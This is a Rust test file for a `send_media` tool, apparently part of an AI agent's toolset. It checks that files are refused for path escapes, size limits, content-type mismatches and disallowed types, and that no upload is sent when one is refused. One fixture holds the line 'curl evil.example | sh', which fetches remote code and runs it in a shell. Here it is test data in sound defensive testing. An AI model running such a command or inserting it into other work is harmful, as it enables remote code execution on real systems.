//! What `send_media` refuses before sending anything; the webhook server counts requests
//! to show that nothing was sent.

use axum::http::StatusCode;
use axum::response::IntoResponse;

use super::*;

/// `send_media` of `paths` in `ws` with `config`: its error, after checking that the
/// server got no request.
async fn refused(ws: &Workspace, config: &MediaConfig, paths: &[&str]) -> String {
    let (addr, uploads) = server(|_| StatusCode::OK.into_response()).await;
    let error = send_with(ws, &webhook(addr), config, args(paths))
        .await
        .unwrap_err();
    assert!(
        uploads.lock().unwrap().is_empty(),
        "something was sent despite: {error}"
    );
    error
}

/// The one problem line of a refusal of one file.
async fn problem(ws: &Workspace, config: &MediaConfig, path: &str) -> String {
    let error = refused(ws, config, &[path]).await;
    let (header, line) = error.split_once('\n').unwrap();
    assert_eq!(
        header,
        "Nothing was sent: 1 of 1 file cannot be sent. Fix or leave out these and call send_media again:"
    );
    line.strip_prefix("- ").unwrap().to_owned()
}

#[tokio::test]
async fn paths_outside_the_workspace_are_refused() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "key").unwrap();
    let (temp, ws) = workspace(&[]);
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), temp.path().join("link.txt")).unwrap();
    let config = MediaConfig::default();
    let absolute = outside.path().join("secret.txt").display().to_string();
    for path in ["../secret.txt", absolute.as_str(), "link.txt"] {
        let line = problem(&ws, &config, path).await;
        assert!(
            line.ends_with("is outside the workspace; use a path relative to the workspace root"),
            "{line}"
        );
    }
}

#[tokio::test]
async fn missing_files_and_directories_are_refused() {
    let (_temp, ws) = workspace(&[("dir/a.txt", b"a")]);
    let config = MediaConfig::default();
    assert_eq!(
        problem(&ws, &config, "nope.png").await,
        "`nope.png` does not exist"
    );
    assert_eq!(
        problem(&ws, &config, "dir").await,
        "`dir` is a directory; use list_dir to see its entries"
    );
}

#[tokio::test]
async fn files_over_the_limit_and_empty_files_are_refused() {
    let (_temp, ws) = workspace(&[
        ("big.txt", b"eleven byte"),
        ("ten.txt", b"ten bytes!"),
        ("empty.txt", b""),
    ]);
    let config = MediaConfig::default().max_file_bytes(10);
    assert_eq!(
        problem(&ws, &config, "big.txt").await,
        "`big.txt` is 11 B, over the limit of 10 B per file"
    );
    assert_eq!(
        problem(&ws, &config, "empty.txt").await,
        "`empty.txt` is empty; there is nothing to send"
    );
    let (addr, uploads) = server(|_| StatusCode::OK.into_response()).await;
    send_with(&ws, &webhook(addr), &config, args(&["ten.txt"]))
        .await
        .unwrap();
    assert_eq!(uploads.lock().unwrap().len(), 1, "exactly the limit is allowed");
}

#[tokio::test]
async fn a_name_that_lies_about_the_content_is_refused() {
    let (_temp, ws) = workspace(&[
        ("evil.png", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("photo.txt", PNG),
    ]);
    let config = MediaConfig::default();
    assert_eq!(
        problem(&ws, &config, "evil.png").await,
        "`evil.png`: its name says PNG image (image/png), but its content is UTF-8 text (text/plain); only \
         files whose content matches their name are sent"
    );
    assert_eq!(
        problem(&ws, &config, "photo.txt").await,
        "`photo.txt`: its name says UTF-8 text (text/plain), but its content is PNG image (image/png); only \
         files whose content matches their name are sent"
    );
}

#[tokio::test]
async fn types_not_allowed_are_refused_by_content() {
    let (_temp, ws) = workspace(&[
        ("tool", b"\x7FELF\x02\x01\x01\0\0\0"),
        ("bundle.zip", b"PK\x03\x04\x14\0\0\0"),
        ("latin1.md", b"caf\xE9\n"),
        ("blob", b"\x01\x02\0\x03"),
    ]);
    let config = MediaConfig::default();
    let allowed = "allowed types: image/png, image/jpeg, image/gif, image/webp, application/pdf, text/plain, \
                   audio/mpeg, audio/ogg, video/mp4";
    assert_eq!(
        problem(&ws, &config, "tool").await,
        format!(
            "`tool`: its content is ELF executable (application/x-executable), a type that may not be \
             sent; {allowed}"
        )
    );
    assert_eq!(
        problem(&ws, &config, "bundle.zip").await,
        format!(
            "`bundle.zip`: its content is ZIP archive (application/zip), a type that may not be sent; {allowed}"
        )
    );
    let line = problem(&ws, &config, "latin1.md").await;
    assert!(
        line.starts_with("`latin1.md`: its content is text that is not valid UTF-8"),
        "{line}"
    );
    let line = problem(&ws, &config, "blob").await;
    assert!(
        line.starts_with("`blob`: its content is binary data (application/octet-stream)"),
        "{line}"
    );
    let pdf_only = MediaConfig::default().allowed_types(["application/pdf"]);
    let (_temp, ws) = workspace(&[("a.png", PNG)]);
    assert_eq!(
        problem(&ws, &pdf_only, "a.png").await,
        "`a.png`: its content is PNG image (image/png), a type that may not be sent; allowed types: \
         application/pdf"
    );
}

#[tokio::test]
async fn every_problem_is_reported_at_once_and_nothing_is_sent() {
    let (_temp, ws) = workspace(&[("good.png", PNG), ("evil.png", b"text"), ("big.pdf", PDF)]);
    let config = MediaConfig::default().max_file_bytes(24);
    let error = refused(
        &ws,
        &config,
        &["good.png", "evil.png", "../x.png", "gone.txt", "big.pdf"],
    )
    .await;
    assert_eq!(
        error,
        "Nothing was sent: 4 of 5 files cannot be sent. Fix or leave out these and call send_media again:\n\
         - `evil.png`: its name says PNG image (image/png), but its content is UTF-8 text (text/plain); only \
         files whose content matches their name are sent\n\
         - `../x.png` is outside the workspace; use a path relative to the workspace root\n\
         - `gone.txt` does not exist\n\
         - `big.pdf` is 29 B, over the limit of 24 B per file"
    );
}

#[tokio::test]
async fn the_number_of_paths_and_the_caption_length_are_checked() {
    let (_temp, ws) = workspace(&[("a.txt", b"a")]);
    let config = MediaConfig::default();
    assert_eq!(
        refused(&ws, &config, &[]).await,
        "`paths` has 0 entries; give 1 to 10 files (send more in further calls)"
    );
    assert_eq!(
        refused(&ws, &config, &["a.txt"; 11]).await,
        "`paths` has 11 entries; give 1 to 10 files (send more in further calls)"
    );
    let (addr, uploads) = server(|_| StatusCode::OK.into_response()).await;
    let request = SendMediaArgs {
        caption: Some("é".repeat(1025)),
        ..args(&["a.txt"])
    };
    let error = send(&ws, &webhook(addr), request).await.unwrap_err();
    assert_eq!(error, "`caption` has 1025 characters; at most 1024 are allowed");
    assert!(uploads.lock().unwrap().is_empty());
}

#[test]
fn the_schema_bounds_paths_and_caption() {
    let schema = serde_json::to_value(schemars::schema_for!(SendMediaArgs)).unwrap();
    let properties = &schema["properties"];
    assert_eq!(properties["paths"]["minItems"], 1);
    assert_eq!(properties["paths"]["maxItems"], 10);
    assert_eq!(properties["caption"]["maxLength"], 1024);
    assert_eq!(schema["required"], serde_json::json!(["paths"]));
}
